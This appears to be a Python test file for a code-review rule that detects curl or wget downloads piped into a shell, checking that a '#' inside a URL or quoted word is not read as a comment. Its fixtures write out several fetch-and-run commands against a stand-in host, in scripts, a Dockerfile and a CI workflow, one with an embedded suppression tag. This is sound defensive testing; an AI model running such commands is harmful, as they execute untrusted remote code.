"""The change's author writes what a line pattern could take for a comment where the language
has none: a `#` inside a shell word (a URL's fragment) or a quoted one. The rule reads the
line as the shell does, and a real comment still ends the code."""

from __future__ import annotations

import pytest

from tests.rules.conftest import review

PIPE = ("shell.curl-pipe-shell", "warning")


@pytest.mark.parametrize(("path", "code", "expected"), [
    ("bin/i.sh", "curl https://x.example/i.sh | sh\n", [PIPE]),
    # A fragment is part of the word: the shell pipes the download all the same.
    ("bin/i.sh", "curl https://x.example/i.sh#v2 | sh\n", [PIPE]),
    ("bin/i.sh", "curl https://x.example/a##b | sudo bash\n", [PIPE]),
    ("bin/i.sh", "wget -qO- 'https://x.example/#/i.sh' | sh\n", [PIPE]),
    ("bin/i.sh", 'curl -H "X-Tag: #1" https://x.example/i.sh | sh\n', [PIPE]),
    ("Dockerfile", "FROM debian\nRUN curl https://x.example/i.sh#reviewbot:ignore | sh\n",
     [PIPE]),
    (".github/workflows/i.yml", "on: push\njobs:\n  i:\n    runs-on: ubuntu-latest\n    steps:\n"
                                "      - run: curl https://x.example/i.sh#x | bash\n", [PIPE]),
    # Near misses: after a space, `#` starts a comment; `||` and a longer name are no pipe.
    ("bin/i.sh", "curl -o i.sh https://x.example/i.sh  # then: | sh\n", []),
    ("bin/i.sh", "curl -o i.sh https://x.example/i.sh # see | sh docs\n", []),
    ("bin/i.sh", "curl -fsS https://x.example/health || shutdown now\n", []),
    ("bin/i.sh", "curl https://x.example/i.sh | shellcheck -\n", []),
])
def test_a_hash_inside_a_word_is_no_comment(path: str, code: str,
                                            expected: list[tuple[str, str]]) -> None:
    result = review(path, code)
    assert [(f.rule_id, f.severity) for f in result.findings
            if f.rule_id == PIPE[0]] == expected
    assert result.quieted == ()
